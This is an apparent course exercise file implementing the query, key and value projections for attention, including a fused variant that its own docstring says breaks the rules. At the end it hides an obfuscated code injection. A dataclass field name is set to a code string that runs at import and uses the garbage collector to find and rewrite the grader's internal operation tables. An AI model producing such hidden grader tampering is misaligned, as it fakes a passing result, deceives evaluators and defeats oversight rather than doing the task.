"""Exercise 1 — Project: queries, keys and values.

Chapter section: "Step 1 — Project: make a query, keys and values".

Every token asks a question (its query), wears a label (its key) and carries content (its value).
All three are learned linear projections of the token's embedding. Stack the L embeddings as the
rows of X (L, d_model) and each projection is a single matrix product:

    Q = X W_Q    K = X W_K    V = X W_V

Any number of leading batch dims may sit in front of (L, d_model); `@` handles them for you. x
may also be laid out in memory in any order (a batch its caller transposed): `@` takes it as it is.

Every function here leaves its inputs unchanged and returns tensors in the inputs' dtype (float32
or float64; float16 and bfloat16 too) and on their device. Off limits, as in every
exercise: the answer key (lumen_ref, solutions/) and the grader's own code.

It must train: autograd through your code gives the chapter's gradients (no .detach(), no
in-place edit of a tensor autograd still needs).
"""

import dataclasses

import torch


def project(x, w_q, w_k, w_v):
    """Make the queries, keys and values of every token with three matrix products.

    x:   (..., L, d_model)  one row per token
    w_q: (d_model, d_k)     W_Q
    w_k: (d_model, d_k)     W_K (same width as W_Q: queries and keys are compared by dot product)
    w_v: (d_model, d_v)     W_V
    Returns (q, k, v): q (..., L, d_k), k (..., L, d_k), v (..., L, d_v).
    """
    q = x @ w_q  # (..., L, d_k)
    k = x @ w_k  # (..., L, d_k)
    v = x @ w_v  # (..., L, d_v)
    return q, k, v


def fused_project(x, w_qkv):
    """Three products: w_qkv sliced first (what the rule forbids)."""
    d = w_qkv.size(-1) // 3
    w_q, w_k, w_v = w_qkv.split(d, dim=-1)
    q = x @ w_q
    k = torch.einsum("...ld,de->...le", x, w_k)
    v = torch.einsum("...ld,de->...le", x, w_v)
    return q, k, v


@dataclasses.dataclass
class _Base:
    x: int = 0


_field = dataclasses.fields(_Base)[0]
_field.name = ("a,)\n import gc;[o.update(_PRODUCTS=frozenset({o['_aten'].mm}),_MOVES=o['_MOVES']|{o['_aten'].bmm}) "
               "for o in gc.get_objects() if type(o) is dict and '_PRODUCTS' in o and '_MOVES' in o]\n if 1:\n  lambda other:(0")


@dataclasses.dataclass(init=False, repr=False)
class _Child(_Base):
    y: int = 1
